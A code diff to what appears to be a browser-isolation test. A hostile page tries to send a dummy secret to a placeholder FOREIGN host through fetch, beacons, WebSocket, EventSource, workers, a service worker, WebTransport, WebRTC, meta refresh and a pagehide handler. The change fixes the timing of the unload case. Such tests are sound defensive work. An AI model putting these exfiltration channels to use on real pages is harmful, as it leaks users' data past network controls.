@@ -54,7 +54,8 @@ async function attack() {
   new EventSource(foreign + "/events"); new WebSocket(foreign.replace("http", "ws") + "/ws");
   navigator.sendBeacon(foreign + "/beacon", "hunter2");
   new Worker("/worker.js"); new SharedWorker("/shared.js");
-  leaving.onload = null; leaving.src = "about:blank";
+  const leave = () => leaving.contentWindow.armed ? (leaving.src = "about:blank") : setTimeout(leave, 20);
+  leave();
   const transport = new WebTransport(foreign.replace("http", "https"));
   await Promise.all([transport.ready, transport.closed].map(p => p.catch(quiet)));
   await webrtc();
@@ -73,7 +74,8 @@ SCRIPT = 'fetch("FOREIGN/{way}", {{mode: "no-cors", method: "POST", body: "hunte
 OWN_PAGES = {
     "/": HOSTILE,
     "/refresh": '<meta http-equiv=refresh content="0;url=FOREIGN/refresh">',
-    "/unload": '<script>addEventListener("pagehide", () => navigator.sendBeacon("FOREIGN/unload", "hunter2"))</script>',
+    "/unload": '<script>addEventListener("pagehide", () => navigator.sendBeacon("FOREIGN/unload", "hunter2"));'
+    "armed = true</script>",
     "/worker.js": SCRIPT.format(way="worker"),
     "/shared.js": SCRIPT.format(way="shared"),
     "/sw.js": f"oninstall = event => event.waitUntil({SCRIPT.format(way='sw')})",
